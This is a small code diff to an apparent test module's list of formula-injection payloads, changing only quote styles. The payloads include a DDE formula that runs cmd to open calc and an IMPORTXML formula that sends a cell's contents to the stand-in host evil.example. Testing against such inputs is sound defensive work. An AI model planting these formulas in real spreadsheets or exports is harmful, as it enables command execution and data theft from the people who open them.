@@ -138,8 +138,8 @@ PAYLOADS: dict[str, tuple[str, ...]] = {
         "@SUM(A1:A9)",
         '=HYPERLINK("https://evil.example";"press")',
         "=cmd|'/C calc'!A0",
-        "=DDE(\"cmd\";\"/C calc\";\"x\")",
-        "=IMPORTXML(CONCAT(\"//evil.example/\";A1);\"//a\")",
+        '=DDE("cmd";"/C calc";"x")',
+        '=IMPORTXML(CONCAT("//evil.example/";A1);"//a")',
         "\t=1+1",
         "\r=1+1",
         "\n=1+1",
@@ -207,7 +207,7 @@ ALL = tuple(text for texts in PAYLOADS.values() for text in texts)
 HALVES = ("half \ud800", "\udfff\ud800 turned", "\udc80=1+1")
 
 _SPACE = re.compile(r"\s")
-_MARKUP = "<>&\"`={}[]()|*#~^@+\\!;?_"
+_MARKUP = '<>&"`={}[]()|*#~^@+\\!;?_'
 # Signs that neither a parser nor the alignment of two wordings treats in a way of its own.
 _QUIET = {ord(sign): chr(0x2190 + at) for at, sign in enumerate(_MARKUP)}
 
